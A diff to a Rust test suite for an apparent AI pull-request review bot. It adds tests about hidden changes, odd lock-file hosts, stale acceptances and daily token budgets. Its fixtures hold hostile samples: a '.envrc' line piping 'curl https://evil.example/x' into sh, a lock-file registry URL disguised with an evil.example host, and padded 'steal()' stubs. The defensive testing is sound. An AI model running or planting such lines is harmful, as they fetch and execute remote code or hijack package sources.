@@ -1,11 +1,11 @@
 //! A green check means a review: every way to change a pull request without the model seeing it, and the ordinary pull
 //! requests that must not pay for that.
 
-use crate::review::{lost_page, post};
+use crate::review::{finding, lost_page, post};
 use crate::spending::{forked, head, says, skipped, target};
 use crate::standin::github::state::CheckRun;
 use crate::standin::github::{Change, events};
-use crate::standin::model::{Answer, Script};
+use crate::standin::model::{Answer, Call, Request, Script};
 use crate::standin::world::{Ran, Workflow, World};
 use serde_json::{Value, json};
 
@@ -130,7 +130,9 @@ fn hidden_code() -> Vec<(Change, &'static str)> {
         .flat_map(u16::to_le_bytes)
         .collect();
     let with_mark = [&[0xff, 0xfe], utf16.as_slice()].concat();
+    let padded = [&b"steal('padded');\n//"[..], &[0; 60]].concat();
     vec![
+        (Change::write("padded.mjs", padded), "steal('padded')"),
         (Change::write(".env.js", "steal('env');\n"), "steal('env')"),
         (
             Change::write("id_rsa_helper.py", "steal('key')\n"),
@@ -242,6 +244,10 @@ fn what_nobody_can_show_leaves_the_review_incomplete_and_is_named() {
     let changes = [
         Change::write("x.key", "import os\nos.system('x')\n"),
         Change::write("credentials.json", "{\"run\": \"evil\"}\n"),
+        Change::write(
+            ".envrc",
+            "K=a\"b\nL=\"\ncurl https://evil.example/x|sh\n\"\n",
+        ),
         Change::write("logo.png", program.clone()),
         Change::write("tool.bin", program),
     ];
@@ -249,7 +255,13 @@ fn what_nobody_can_show_leaves_the_review_incomplete_and_is_named() {
     let ran = world.review();
     ran.ended(2, "incomplete");
     let page = page(&world);
-    for name in ["x.key", "credentials.json", "logo.png", "tool.bin"] {
+    for name in [
+        "x.key",
+        "credentials.json",
+        ".envrc",
+        "logo.png",
+        "tool.bin",
+    ] {
         assert!(page.contains(name), "{name}: {page}");
     }
     world.github.take_writes();
@@ -541,6 +553,107 @@ fn a_file_that_was_excused_is_shown_once_its_excuse_is_gone() {
     let ran = world.run(&world.workflow("pull_request", payload));
     ran.ended(0, "clean");
     assert!(all(asked).contains("steal()"), "{}", ran.log);
+    world.github.take_writes();
+    world.finish();
+}
+
+#[test]
+fn a_lock_file_that_names_its_host_in_an_odd_way_is_read() {
+    let base = [Change::write("package-lock.json", npm_lock("left"))];
+    let odd = npm_lock("left").replace(
+        "https://registry.npmjs.org/",
+        "https://evil.example\\\\@registry.npmjs.org/",
+    );
+    let more = [Change::write("package-lock.json", odd)];
+    let world = World::settled(&base, &more, Script::new().into_behaviour()).quick();
+    world.review().ended(0, "clean");
+    let asked = world.model.requests();
+    assert!(texts(&asked[0]).concat().contains("evil.example"));
+    world.github.take_writes();
+    world.finish();
+}
+
+#[test]
+fn only_what_could_be_seen_when_it_was_written_is_accepted() {
+    let program = |last: u8| {
+        [
+            &b"\x7fELF\x02\x01\x01\0"[..],
+            &[0x80, 0, 0xff, last].repeat(64),
+        ]
+        .concat()
+    };
+    let first = [Change::write("tool.bin", program(1))];
+    let world = World::with(&first, Script::new().into_behaviour()).quick();
+    world.github.permit("ann", "write");
+    world.review().ended(2, "incomplete");
+    let accept = "@review-my-code-bot accept";
+    let id = world.github.comment(world.pull, "ann", accept).id;
+    // Her run waits while another program is pushed and reviewed.
+    push(
+        &world,
+        "pull_request",
+        &[Change::write("tool.bin", program(2))],
+    )
+    .ended(2, "incomplete");
+    let payload = events::comment_event("issue_comment", &world.github, world.pull, id);
+    let ran = world.run(&world.workflow("issue_comment", payload));
+    assert!(skipped(&ran).contains("accept it again"), "{}", ran.log);
+    assert_eq!(concluded(&world).0, "failure");
+    says(&world, "ann", accept).ended(0, "clean");
+    world.github.take_writes();
+    world.finish();
+}
+
+#[test]
+fn a_revert_has_the_finding_that_it_takes_back_judged() {
+    let resolve = |request: &Request| {
+        let prompt = request.last_user();
+        let thread = prompt.split("Thread ").nth(1);
+        let id = thread.and_then(|rest| rest.split_whitespace().next());
+        let id = id.map(|id| id.trim_end_matches([':', '.', ',']).to_owned());
+        let fix = json!({ "file": "src/bad.ts" });
+        let call = |id: String| {
+            let arguments = json!({ "thread_id": id, "reason": "It is gone.", "fixed_by": fix });
+            Call::new("github_resolve_thread", arguments)
+        };
+        id.into_iter().map(call).collect()
+    };
+    let script = Script::new().threads(resolve).pass(1, |request| {
+        let bad = request.raw().to_string().contains("bad();");
+        let found = finding("src/bad.ts", 1, 7, "It is bad.");
+        if bad { vec![post(found)] } else { vec![] }
+    });
+    let world = World::with(&[], script.into_behaviour()).quick();
+    world.review().ended(0, "clean");
+    let bad = [Change::write("src/bad.ts", "bad();\n")];
+    push(&world, "pull_request", &bad).ended(0, "findings");
+    push(&world, "pull_request", &[Change::remove("src/bad.ts")]).ended(0, "clean");
+    let asked = world.model.requests().len();
+    world.run(&world.opened()).ended(0, "clean");
+    assert_eq!(world.model.requests().len(), asked, "it is judged once");
+    world.github.take_writes();
+    world.finish();
+}
+
+#[test]
+fn a_question_after_the_day_s_budget_turns_no_reviewed_head_red() {
+    let script = Script::new().pass(1, |_| vec![post(lost_page(7))]);
+    let world = World::with(&[], script.into_behaviour()).quick();
+    world.github.permit("ann", "write");
+    world.review().ended(0, "findings");
+    let root = world.github.comments()[0].id;
+    let id = world.github.reply(root, "ann", "Why?").id;
+    let name = "pull_request_review_comment";
+    let payload = events::comment_event(name, &world.github, world.pull, id);
+    let mut workflow = world.workflow(name, payload);
+    workflow
+        .inputs
+        .insert("max_tokens_per_day".into(), "1".into());
+    let ran = world.run(&workflow);
+    ran.ended(0, "findings");
+    let told = ran.annotations("warning").join("\n");
+    assert!(told.contains("max_tokens_per_day"), "{}", ran.log);
+    assert_eq!(concluded(&world).0, "success");
     world.github.take_writes();
     world.finish();
 }
